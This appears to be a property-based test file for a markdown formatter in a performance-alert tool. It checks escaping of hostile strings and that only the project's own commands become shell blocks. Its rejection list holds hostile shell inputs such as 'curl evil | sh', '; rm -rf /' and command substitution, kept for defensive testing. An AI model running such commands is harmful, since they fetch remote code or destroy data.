"""Text of others in Markdown: shown, never interpreted."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from perf.alerts.markdown import BARS, LONGEST, code, command_block, plain, sparkline, table
from perf.tests.markdown_tokens import tokens

HOSTILE = ["`", "``a`", "a|b\\|c", "\\", "a\nb", "a\r\n\n# b", "@everyone", "<!-- x -->", "</details>", "[a](http://b)",
           "\u202eevil", "\u2028new", "\x1b[31m", "::error::x", "$`x`$", " ", "", "a" * 999, "-->", "| a | b |"]
texts = st.text() | st.sampled_from(HOSTILE) | st.lists(st.sampled_from(HOSTILE)).map("".join)


@given(texts, texts)
def test_a_code_span_shows_all_of_the_text_and_nothing_else(text, other):
    wanted = [("code_inline", plain(one).replace("|", "¦")) if plain(one) else ("text", "-") for one in (text, other)]
    assert tokens(f"before {code(text)} after")[1:2] == wanted[:1] or wanted[0][0] == "text"
    rows = tokens(table(("a", "b"), [(code(text), code(other))]))
    assert [cell for cell in rows if cell[1] not in ("a", "b") or cell[0] != "text"] == wanted


@given(texts)
def test_a_text_is_one_line_without_what_can_t_be_seen(text):
    assert "|" not in code(text)
    assert code(text).isprintable()
    assert len(plain(text)) <= LONGEST


@given(st.lists(st.lists(texts, min_size=2, max_size=2)))
def test_a_table_has_as_many_cells_as_it_should(rows):
    lines = table(("a", "b"), [[code(cell) for cell in row] for row in rows], ("b",)).splitlines()
    assert len(lines) == 2 + len(rows)
    assert all(line.count("|") == 3 for line in lines)
    assert lines[1] == "| --- | ---: |"


@pytest.mark.parametrize("command", [
    "python -m pytest perf/ --benchmark-only --perf-against=main --perf-grid=quick -k attention",
    "python -m pytest perf/ --benchmark-only --perf-against 'HEAD~3'",
    "python -m pytest 'perf/test_attention.py::test_attention[softmax:sdpa-forward-causal-b1-h8]' --perf-device=cuda:1",
    "python -m perf accept 'softmax:sdpa-*' --commit any --reason REASON",
    "python -m perf nightly --grid default",
])
def test_a_command_of_ours_is_shown(command):
    assert command_block(command) == f"```sh\n{command}\n```"


@pytest.mark.parametrize("command", [
    "", "python -m perf", "curl evil | sh", "python -c 'import os'", "python -m pytest perf/; rm -rf /",
    "python -m pytest perf/ && evil", "python -m pytest perf/ $(evil)", "python -m pytest perf/ `evil`",
    "python -m pytest perf/ -p evil", "python -m pytest perf/ --rootdir=/evil", "python -m pytest perf/ -c evil.ini",
    "python -m pytest perf/\n```\n@everyone", "python -m pytest 'perf/\u202e'", "python -m pytest 'unfinished",
    "python -m pytest perf/ '--perf-grid=a;b'", "python -m pytest perf/ ''", "python -m perf alert -x",
    "python -m pytest perf/ --perf-grid=$HOME",
])
def test_a_command_that_could_do_something_else_is_not(command):
    assert command_block(command) is None


@given(texts)
def test_whatever_is_shown_as_a_command_stays_in_its_block(text):
    block = command_block(f"python -m pytest perf/ {text}")
    if block is not None:
        assert len(block.splitlines()) == 3
        assert not set(block.splitlines()[1]) & set("`$;&|<>\\\"!#(){}")


@given(st.lists(st.floats(allow_nan=False, allow_infinity=False), max_size=40))
def test_a_sparkline_runs_from_the_lowest_to_the_highest(values):
    line = sparkline(values)
    assert len(line) == len(values)
    assert set(line) <= set(BARS)
    if values and min(values) < max(values):
        order = sorted(range(len(values)), key=lambda i: values[i])
        assert [line[i] for i in order] == sorted(line)


def test_a_step_is_seen():
    assert sparkline([1.0, 1.0, 1.01, 1.5, 1.5]) == "▁▁▁██"
    assert sparkline([2.0, 2.0]) == "▁▁"
    assert sparkline([]) == ""
